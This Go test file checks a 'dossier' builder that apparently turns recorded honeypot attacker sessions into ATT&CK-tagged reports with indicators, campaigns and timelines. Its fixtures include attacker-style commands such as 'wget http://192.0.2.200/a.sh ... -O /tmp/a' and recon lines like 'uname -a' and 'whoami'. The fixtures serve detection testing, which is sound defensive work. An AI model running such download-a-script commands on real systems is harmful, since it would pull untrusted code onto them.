package dossier

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
	"ttpctl/internal/report"
	"ttpctl/internal/report/sessions"
	"ttpctl/internal/store"
)

func TestCountries(t *testing.T) {
	c, err := ReadCountries(strings.NewReader("network,country\n# ours\n203.0.113.0/24,Testland\n203.0.113.9\tElsewhere\n2001:db8::/32; \"Six Land\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	for address, want := range map[string]string{
		"203.0.113.7": "Testland", "203.0.113.9": "Elsewhere", "2001:db8::1": "Six Land", "198.51.100.1": "", "identity x": "",
	} {
		if got := c.Of(address); got != want {
			t.Errorf("Of(%q) = %q, want %q", address, got, want)
		}
	}
	for _, bad := range []string{"203.0.113.0/24", "a,b\nc,d", "203.0.113.0/24,", "1.2.3.4/99,X\n1.2.3.4/99,X"} {
		if _, err := ReadCountries(strings.NewReader(bad)); err == nil {
			t.Errorf("ReadCountries(%q) gives no error", bad)
		}
	}
}

// played feeds a builder the sessions of attackers, a line of text each, and a tag
// for each line.
func played(t *testing.T, b *Builder, attackers int, lines ...string) {
	t.Helper()
	at := time.Date(2026, 9, 14, 1, 0, 0, 0, time.UTC)
	for i := range attackers {
		r := b.Recorder()
		var tags []event.Tag
		for k, text := range lines {
			ev := event.Event{SourceID: fmt.Sprintf("%d-%d", i, k), AttackerIP: fmt.Sprintf("203.0.113.%d", i+1), SessionID: event.Some(fmt.Sprintf("s%d", i)), Time: at, TS: at.Format(time.RFC3339)}
			ev.SetKind("command")
			ev.SetField("command_text", event.StringValue(text))
			r.Record(&ev)
			if !strings.HasPrefix(text, "untagged") {
				tags = append(tags, event.Tag{
					SourceKind: "command", SourceID: ev.SourceID, AttackerIP: ev.AttackerIP, SessionID: ev.SessionID, Tactic: "TA0007", Technique: "T1082",
					Confidence: 0.8, RuleID: "R0018", RuleVersion: 1, Evidence: []byte(`{"matched":"uname"}`), AttackRelease: "enterprise-v19.1", ObservedAt: ev.TS,
				})
			}
		}
		b.Add(r.Take(nil))
		b.Tag(tags)
	}
}

func TestDossier(t *testing.T) {
	b := New(Config{Catalogue: attack.Load()})
	played(t, b, 3, "uname -a", "wget http://192.0.2.200/a.sh?token=abcd -O /tmp/a", "untagged one", "id", "whoami")
	d := b.Dossier()
	if d.Counts.Attackers.N != 3 || d.Counts.Sessions.N != 3 || d.Tags != 12 || d.Counts.Techniques != 1 {
		t.Errorf("counts = %+v, %d tags, want 3 attackers, 3 sessions, 1 technique, 12 tags", d.Counts, d.Tags)
	}
	if len(d.Sessions) != 1 || d.Sessions[0].Like != 2 || d.Counts.SessionsLike != 2 {
		t.Fatalf("%d sessions are shown, %d like them, want 1 and 2", len(d.Sessions), d.Counts.SessionsLike)
	}
	line := d.Sessions[0].Lines[1]
	if !strings.Contains(line.Text, "token=***") || len(line.Effects) == 0 || len(line.Tags) != 1 {
		t.Errorf("line = %+v, want its token masked, its effects and its tag", line)
	}
	if d.Missed != 3 || d.Commands != 15 || len(d.Untagged) != 1 || d.Untagged[0].Lines != 3 {
		t.Errorf("untagged: %d of %d, shapes %+v, want 3 of 15 of one shape", d.Missed, d.Commands, d.Untagged)
	}
	kinds := map[string]Indicator{}
	for _, i := range d.Indicators {
		kinds[i.Kind] = i
	}
	if i := kinds[KindHost]; i.Value != "192.0.2.200" || i.Attackers != 3 || i.Sessions != 3 {
		t.Errorf("host = %+v, want 192.0.2.200 of 3 attackers and 3 sessions", i)
	}
	if strings.Contains(kinds[KindURL].Value, "abcd") {
		t.Errorf("url = %q shows a token", kinds[KindURL].Value)
	}
	if len(d.Campaigns) != 1 || d.Campaigns[0].Count != 3 {
		t.Errorf("campaigns = %+v, want one of 3 attackers", d.Campaigns)
	}
	if tl := d.Timeline; tl.Buckets != 1 || tl.Most != 12 {
		t.Errorf("timeline = %+v, want one hour of 12 tags", tl)
	}
}

// What is shared by everybody ties nobody together.
func TestCampaignsOfEveryone(t *testing.T) {
	b := New(Config{Catalogue: attack.Load()})
	played(t, b, 3, "wget https://raw.githubusercontent.com/a/b/c.sh")
	if d := b.Dossier(); len(d.Campaigns) != 0 {
		t.Errorf("campaigns = %+v, want none", d.Campaigns)
	}
}

func TestTimelineFits(t *testing.T) {
	b := New(Config{Catalogue: attack.Load()})
	for _, at := range []string{"1999-12-31T23:00:00Z", "2026-09-14T00:00:00Z", "9999-12-31T23:59:59Z", "no time", ""} {
		b.Tag([]event.Tag{{Tactic: "TA0007", Technique: "T1082", RuleID: "R0018", Confidence: 0.5, Evidence: []byte("{}"), AttackerUUID: "a", ObservedAt: at}})
	}
	d := b.Dossier()
	if d.Timeline.Buckets == 0 || d.Timeline.Buckets > maxColumns {
		t.Errorf("%d buckets, want 1 to %d", d.Timeline.Buckets, maxColumns)
	}
	sum := 0
	for _, n := range d.Timeline.Totals {
		sum += n
	}
	if sum != 3 {
		t.Errorf("the buckets hold %d tags, want 3", sum)
	}
}

// A database gives tags and no events: sessions are put together of them.
func TestStored(t *testing.T) {
	b := New(Config{Catalogue: attack.Load(), Stored: true})
	for i := range 3 {
		b.Tag([]event.Tag{{
			SourceKind: "command", SourceID: fmt.Sprint(2 - i), SessionID: event.Some("s"), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
			Confidence: 0.9, Evidence: []byte(`{"matched":"wget http://192.0.2.200/x.sh"}`), ObservedAt: time.Unix(int64(1000-i), 0).UTC().Format(time.RFC3339),
		}})
	}
	d := b.Dossier()
	if len(d.Sessions) != 1 || len(d.Sessions[0].Lines) != 3 || d.Sessions[0].Lines[0].SourceID != "0" || !d.Sessions[0].Evidence {
		t.Fatalf("sessions = %+v, want one of three places in the order of time", d.Sessions)
	}
	if len(d.Indicators) == 0 {
		t.Error("no indicator, want the host of the URL")
	}
}

// Of what a database kept there may be more than there is room for: then tags say what
// they say without it, and no indicator is lost.
func TestKeptWithoutRoom(t *testing.T) {
	const many = 200
	var lines []byte
	for i := range 60 {
		lines = fmt.Appendf(lines, `{"kind":"command","id":"%d","text":"%s"}`+"\n", i, strings.Repeat("x", 4000))
	}
	b := New(Config{Catalogue: attack.Load(), Stored: true})
	for i := range many {
		if err := b.Kept(&store.KeptLines{Session: fmt.Sprint("s", i), Lines: lines}); err != nil {
			t.Fatal(err)
		}
	}
	for i := range many {
		b.Tag([]event.Tag{{
			SourceKind: "command", SourceID: "1", SessionID: event.Some(fmt.Sprint("s", i)), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
			Confidence: 0.9, Evidence: fmt.Appendf(nil, `{"matched":"wget http://192.0.2.200/%d.sh"}`, i), ObservedAt: "2026-11-22T10:00:00Z",
		}})
	}
	forgotten, urls := 0, 0
	for _, s := range b.keeper.Sessions(sessions.ByTelling) {
		if len(s.Lines) == 0 {
			forgotten++
		}
	}
	for _, i := range b.Dossier().Indicators {
		if i.Kind == KindURL {
			urls++
		}
	}
	if forgotten == 0 || urls != forgotten {
		t.Errorf("the lines of %d sessions were forgotten, and %d URLs are of their tags", forgotten, urls)
	}
}

// Of a session only so many lines are kept: what comes behind them is an indicator all
// the same.
func TestKeptInPart(t *testing.T) {
	b := New(Config{Catalogue: attack.Load(), Stored: true})
	if err := b.Kept(&store.KeptLines{Session: "s", Lines: []byte(`{"kind":"command","id":"1","text":"true"}` + "\n"), LeftOut: 1}); err != nil {
		t.Fatal(err)
	}
	b.Tag([]event.Tag{{
		SourceKind: "command", SourceID: "2", SessionID: event.Some("s"), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
		Confidence: 0.9, Evidence: []byte(`{"matched":"wget http://192.0.2.200/x.sh"}`), ObservedAt: "2026-11-22T10:00:00Z",
	}})
	d := b.Dossier()
	if len(d.Sessions) != 1 || d.Sessions[0].Evidence || len(d.Sessions[0].Lines) != 1 || len(d.Indicators) == 0 {
		t.Errorf("sessions %+v and %d indicators, want the one that was kept, and the URL that was not", d.Sessions, len(d.Indicators))
	}
}

// TestFetchersInEvidence: what is looked for in a stored tag's example is found in its
// evidence as it is stored, however the text around it is spelled there.
func TestFetchersInEvidence(t *testing.T) {
	for _, word := range fetchers {
		for _, text := range []string{word, "a \"b\"\t\\" + word + "\x00\x1b\u202e/", "\xff\n" + word + "é'<>&"} {
			evidence := append(event.AppendQuoted([]byte(`{"command_text":`), text), '}')
			if shown := report.Example(evidence); !has(shown, []string{word}) || !hasBytes(evidence, []string{word}) {
				t.Errorf("%q: in the example %t, in the evidence %t, want both", evidence, has(shown, []string{word}), hasBytes(evidence, []string{word}))
			}
		}
	}
}
